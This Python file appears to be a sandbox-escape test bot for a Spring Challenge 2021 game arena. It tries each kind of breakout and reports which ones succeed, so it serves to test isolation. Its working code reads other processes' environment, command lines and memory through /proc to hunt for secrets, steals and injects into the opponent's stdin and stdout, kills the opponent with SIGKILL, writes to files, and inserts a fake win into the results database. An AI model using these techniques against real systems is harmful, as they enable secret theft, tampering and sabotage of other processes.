"""A Spring Challenge 2021 bot that attacks everything around it before its first answer:
``attacker.py REPORT_MARK OPPONENT_MARK PORT WRITE_TARGET...``, with the paths of its opponent's
file and of the results database in $OPPONENT and $DB (a real attacker would guess them; a path on
its command line would count as its own file).

It writes one JSON line of what it managed to stderr (after REPORT_MARK), then plays WAIT:
- ``source``: the first bytes of its opponent's file;
- ``environment``: the names of its environment variables;
- ``processes``: the command lines it can see that carry OPPONENT_MARK, or mention pytest;
- ``stolen``: bytes read from the opponent's stdin, ``injected``: whether it wrote into the
  opponent's stdout, ``killed``: whether it sent SIGKILL to the opponent;
- ``network``: whether a TCP connection to 127.0.0.1:PORT worked;
- ``written``: which WRITE_TARGETs it could create;
- ``database``: what it could do to the SQLite file DB (read rows, insert a row);
- ``peeked``: what it could read of the other processes it sees (``environ``, ``cmdline``,
  ``mem``: their memory), and ``exposed``: where in these it found one of the strings of $LOOK_FOR
  (hex, one per line: secrets it was not given, so that its own words do not hold them).
"""

import json
import os
import signal
import socket
import sqlite3
import sys

from frames import turns

REPORT, OPPONENT_MARK, PORT = sys.argv[1:4]
TARGETS = sys.argv[4:]
OPPONENT_FILE, DB = os.environ["OPPONENT"], os.environ["DB"]
SECRETS = [bytes.fromhex(h) for h in os.environ.get("LOOK_FOR", "").split()]


def memory_holds(pid, secrets):
    """Whether the memory of ``pid`` holds one of ``secrets`` (None when it cannot be read): its
    writable regions and stack, where a process keeps its arguments, environment and data."""
    try:
        with open(f"/proc/{pid}/maps") as f:
            regions = [line.split() for line in f]
        fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    except OSError:
        return None
    read = False
    try:
        for fields in regions:
            if not fields[1].startswith("rw") and fields[-1] != "[stack]":
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            try:
                data = os.pread(fd, min(end - start, 256 << 20), start)
            except OSError:
                continue
            read = True
            if any(s in data for s in secrets):
                return True
    finally:
        os.close(fd)
    return False if read else None


def peek(pid, marked, report):
    """Read what ``pid`` shows of itself (its memory when ``marked``: a process of this game)."""
    for what in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as f:
                data = f.read()
        except OSError:
            continue
        report["peeked"].add(what)
        if any(s in data for s in SECRETS):
            report["exposed"].add(what)
    if marked:
        holds = memory_holds(pid, SECRETS)
        if holds is not None:
            report["peeked"].add("mem")
        if holds:
            report["exposed"].add("mem")


def attack():
    report = {}
    try:
        with open(OPPONENT_FILE, "rb") as f:
            report["source"] = f.read(200).decode("utf-8", "replace")
    except OSError as exc:
        report["source"] = f"error: {exc.strerror}"
    report["environment"] = sorted(os.environ)
    victims, seen = [], []
    report["peeked"], report["exposed"] = set(), set()
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                cmdline = f.read().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        peek(int(entry), OPPONENT_MARK in cmdline, report)
        if "attacker.py" in cmdline:
            continue  # itself, and its sandbox
        # each command line cut short: the report must fit the arena's stderr tail, whatever other
        # tests run beside this one (a fast-started bot's command line is tens of kilobytes)
        if OPPONENT_MARK in cmdline:
            victims.append(int(entry))
            seen.append(cmdline[:200])
        elif "pytest" in cmdline:
            seen.append(cmdline[:200])
    report["processes"] = seen
    report["stolen"] = report["injected"] = 0
    report["killed"] = False
    for pid in victims:
        try:
            fd = os.open(f"/proc/{pid}/fd/0", os.O_RDONLY | os.O_NONBLOCK)
            report["stolen"] += len(os.read(fd, 1 << 16))
            os.close(fd)
        except OSError:
            pass
        try:
            with open(f"/proc/{pid}/fd/1", "w") as f:
                f.write("GROW 999\n")
            report["injected"] += 1
        except OSError:
            pass
        try:
            os.kill(pid, signal.SIGKILL)
            report["killed"] = True
        except OSError:
            pass
    try:
        with socket.create_connection(("127.0.0.1", int(PORT)), timeout=0.5):
            report["network"] = True
    except OSError:
        report["network"] = False
    report["written"] = []
    for target in TARGETS:
        try:
            with open(target, "w") as f:
                f.write("owned")
            report["written"].append(target)
        except OSError:
            pass
    try:
        db = sqlite3.connect(DB, timeout=0.2)
        report["database"] = {"rows": db.execute("SELECT count(*) FROM games").fetchone()[0]}
        db.execute("INSERT INTO games VALUES ('fake win')")
        db.commit()
        report["database"]["inserted"] = True
    except sqlite3.Error as exc:
        report.setdefault("database", {})["error"] = str(exc)
    report["peeked"], report["exposed"] = sorted(report["peeked"]), sorted(report["exposed"])
    sys.stderr.write(REPORT + json.dumps(report) + "\n")
    sys.stderr.flush()


def main():
    for turn in turns():
        if turn == 1:
            attack()
        print("WAIT", flush=True)


if __name__ == "__main__":
    main()
